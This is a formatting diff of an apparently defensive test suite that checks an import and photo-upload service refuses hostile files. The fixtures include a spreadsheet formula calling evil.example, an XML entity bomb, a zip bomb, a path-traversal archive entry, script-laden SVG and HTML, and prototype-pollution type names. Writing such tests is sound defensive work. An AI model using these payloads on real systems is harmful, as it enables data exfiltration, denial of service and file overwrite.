@@ -11,16 +11,30 @@ import { testPlant, type Caller, type TestPlant } from '../harness'
 // Files that are not what they say, through the doors that people use.
 let plant: TestPlant
 let admin: Caller
-beforeAll(async () => { plant = await testPlant(); admin = await plant.as('admin') }, 60_000)
+beforeAll(async () => {
+  plant = await testPlant()
+  admin = await plant.as('admin')
+}, 60_000)
 afterAll(() => plant.close())
 
 const imports = areaContracts.flatMap((a) => a.resources as readonly Resource[]).filter((r) => 'import' in r.endpoints)
 const pathOf = (e: Endpoint) => splitRoute(e.routes[0]!).path
 const importPath = (r: Resource) => pathOf((r.endpoints as unknown as Record<string, Endpoint>)['import']!)
-const state = async () => (await plant.query<{ s: string }>(`select concat_ws(' ', ${[...new Set(areaContracts.flatMap((a) => a.resources.map((r) => r.table)))].filter((t) => !t.endsWith('_log')).map((t) => `(select count(*) from "${t}")`).join(', ')}) as s`))[0]!.s
-const row = (n: number, ...texts: string[]) => `<row r="${n}">${texts.map((t, i) => inline(`${String.fromCharCode(65 + i)}${n}`, t)).join('')}</row>`
-const million = () => sheetOf(row(1, '编码', '名称') + Array.from({ length: 1_000_000 }, () => '<row><c><v>1</v></c></row>').join(''))
-const formula = '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>X-1</v></c><c r="B2" t="str"><f>1+1</f><v>2</v></c></row>'
+const state = async () =>
+  (
+    await plant.query<{ s: string }>(
+      `select concat_ws(' ', ${[...new Set(areaContracts.flatMap((a) => a.resources.map((r) => r.table)))]
+        .filter((t) => !t.endsWith('_log'))
+        .map((t) => `(select count(*) from "${t}")`)
+        .join(', ')}) as s`,
+    )
+  )[0]!.s
+const row = (n: number, ...texts: string[]) =>
+  `<row r="${n}">${texts.map((t, i) => inline(`${String.fromCharCode(65 + i)}${n}`, t)).join('')}</row>`
+const million = () =>
+  sheetOf(row(1, '编码', '名称') + Array.from({ length: 1_000_000 }, () => '<row><c><v>1</v></c></row>').join(''))
+const formula =
+  '<row r="2"><c r="A2" t="str"><f>WEBSERVICE("http://evil.example")</f><v>X-1</v></c><c r="B2" t="str"><f>1+1</f><v>2</v></c></row>'
 
 describe('workbooks', () => {
   const bombs: [string, () => Buffer | Promise<Buffer>][] = [
@@ -30,24 +44,49 @@ describe('workbooks', () => {
     ['a text', () => Buffer.from('编码,名称\n1,2\n')],
     ['an empty file', () => Buffer.alloc(0)],
     ['a zip with a program in it', () => archive([{ name: 'setup.exe', content: 'MZ' }])],
-    ['half a workbook', () => { const whole = workbookWith(sheetOf(row(1, '编码'))); return whole.subarray(0, whole.length / 2) }],
+    [
+      'half a workbook',
+      () => {
+        const whole = workbookWith(sheetOf(row(1, '编码')))
+        return whole.subarray(0, whole.length / 2)
+      },
+    ],
     ['a bomb of half a gigabyte', () => workbookWith(Buffer.alloc(500 * 1024 * 1024, ' '))],
-    ['entities that multiply', () => workbookWith('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>')],
+    [
+      'entities that multiply',
+      () => workbookWith('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><worksheet>&b;</worksheet>'),
+    ],
     ['a path that leaves the archive', () => archive([{ name: '../../../../tmp/evil.txt', content: 'x' }])],
-    ['merged cells over the rows', () => workbookWith(sheetOf(row(1, '编码', '名称') + row(2, '', ''), '<mergeCells count="1"><mergeCell ref="A1:B2"/></mergeCells>'))],
+    [
+      'merged cells over the rows',
+      () =>
+        workbookWith(
+          sheetOf(
+            row(1, '编码', '名称') + row(2, '', ''),
+            '<mergeCells count="1"><mergeCell ref="A1:B2"/></mergeCells>',
+          ),
+        ),
+    ],
     ['headings twice', () => workbookWith(sheetOf(row(1, '编码', '编码') + row(2, 'A', 'B')))],
   ]
-  test.each(bombs)('%s: refused by every import with a sentence, nothing stored', async (_, make) => {
-    const file = await make()
-    const before = await state()
-    for (const r of file.length > 400_000 ? imports.slice(0, 1) : imports) {
-      const answer = await admin.upload(importPath(r), file)
-      expect([answer.status < 500, ['6000', '4013', '4042'].includes(answer.errno), answer.errmsg.length > 3], `${r.name}: ${answer.status} ${answer.errno} ${answer.errmsg}`).toEqual([true, true, true])
-      const byType = await admin.upload('/UPLOAD_FILE', file, { type: r.name })
-      expect(byType.errno, r.name).not.toBe('200')
-    }
-    expect(await state()).toBe(before)
-  }, 60_000)
+  test.each(bombs)(
+    '%s: refused by every import with a sentence, nothing stored',
+    async (_, make) => {
+      const file = await make()
+      const before = await state()
+      for (const r of file.length > 400_000 ? imports.slice(0, 1) : imports) {
+        const answer = await admin.upload(importPath(r), file)
+        expect(
+          [answer.status < 500, ['6000', '4013', '4042'].includes(answer.errno), answer.errmsg.length > 3],
+          `${r.name}: ${answer.status} ${answer.errno} ${answer.errmsg}`,
+        ).toEqual([true, true, true])
+        const byType = await admin.upload('/UPLOAD_FILE', file, { type: r.name })
+        expect(byType.errno, r.name).not.toBe('200')
+      }
+      expect(await state()).toBe(before)
+    },
+    60_000,
+  )
   test('a million rows are refused while others are served', async () => {
     const file = workbookWith(million())
     const before = await state()
@@ -62,14 +101,17 @@ describe('workbooks', () => {
   }, 60_000)
   test('a formula comes in as the value that was shown, and goes out as text', async () => {
     const answer = await admin.upload('/book/upload', workbookWith(sheetOf(row(1, '编码', '名称') + formula)))
-    const stored = await plant.query<{ code: string; name: string }>(`select code, name from equipment where code = 'X-1'`)
+    const stored = await plant.query<{ code: string; name: string }>(
+      `select code, name from equipment where code = 'X-1'`,
+    )
     if (answer.errno === '200') expect(stored).toEqual([{ code: 'X-1', name: '2' }])
     else expect([answer.errno, stored]).toEqual(['6000', []])
     expect(JSON.stringify(stored)).not.toContain('WEBSERVICE')
   })
   test('a file for a type that is none, a stranger, a role without the key: refused before it is read', async () => {
     const file = workbookWith(sheetOf(row(1, '编码')))
-    for (const type of ['operationLog', 'session', '__proto__', 'constructor', '']) expect((await admin.upload('/UPLOAD_FILE', file, { type })).errno, type).not.toBe('200')
+    for (const type of ['operationLog', 'session', '__proto__', 'constructor', ''])
+      expect((await admin.upload('/UPLOAD_FILE', file, { type })).errno, type).not.toBe('200')
     const viewer = await plant.as('viewer')
     for (const r of imports) {
       expect((await viewer.upload(importPath(r), file)).errno, r.name).toBe('401')
@@ -82,21 +124,32 @@ describe('workbooks', () => {
     try {
       const answer = await (await small.as('admin')).upload('/book/upload', randomBytes(200_000))
       expect([answer.status, answer.errno]).toEqual([413, '4013'])
-    } finally { await small.close() }
+    } finally {
+      await small.close()
+    }
   }, 30_000)
 })
 
 describe('photos', () => {
   const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex')
-  const start = (id: string, bytes: Buffer, more: object = {}) => admin.raw('POST', '/upload_start', { id, sha256: sha256(bytes), size: bytes.length, mime: 'image/jpeg', name: 'photo.jpg', ...more })
-  const piece = (id: string, offset: number, bytes: Buffer) => admin.raw('PATCH', `/upload_chunk?id=${id}&offset=${offset}`, bytes, { 'content-type': 'application/octet-stream' })
+  const start = (id: string, bytes: Buffer, more: object = {}) =>
+    admin.raw('POST', '/upload_start', {
+      id,
+      sha256: sha256(bytes),
+      size: bytes.length,
+      mime: 'image/jpeg',
+      name: 'photo.jpg',
+      ...more,
+    })
+  const piece = (id: string, offset: number, bytes: Buffer) =>
+    admin.raw('PATCH', `/upload_chunk?id=${id}&offset=${offset}`, bytes, { 'content-type': 'application/octet-stream' })
   const files = () => plant.app.files.store
   const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
   test.each([
     ['a page', Buffer.from('<html><script>alert(1)</script></html>')],
     ['a picture with a script (SVG)', svg],
     ['a program', Buffer.concat([Buffer.from('MZ'), randomBytes(500)])],
-    ['noise with a picture\'s head', Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(5000)])],
+    ["noise with a picture's head", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(5000)])],
     ['a picture of 40,000 × 40,000 that is none', pixelBomb(40_000, 40_000)],
     ['one byte', Buffer.from('x')],
   ])('%s called .jpg is refused, and never given out', async (_, bytes) => {
@@ -110,7 +163,13 @@ describe('photos', () => {
     expect((await piece(id, 0, bytes)).errno).not.toBe('200') // and stays refused
   })
   test('40 MB are refused before the first byte is sent, said or not said to be a photo', async () => {
-    const answer = await admin.raw('POST', '/upload_start', { id: uuid7(), sha256: 'a'.repeat(64), size: 40 * 1024 * 1024, mime: 'image/jpeg', name: 'photo.jpg' })
+    const answer = await admin.raw('POST', '/upload_start', {
+      id: uuid7(),
+      sha256: 'a'.repeat(64),
+      size: 40 * 1024 * 1024,
+      mime: 'image/jpeg',
+      name: 'photo.jpg',
+    })
     expect(answer.errno).not.toBe('200')
     expect(answer.errmsg).toMatch(/15/)
   })
@@ -141,4 +200,3 @@ describe('photos', () => {
     expect([given.bytes.includes('CameraMakerSecret'), given.bytes.includes('Exif')]).toEqual([false, false])
   })
 })
-
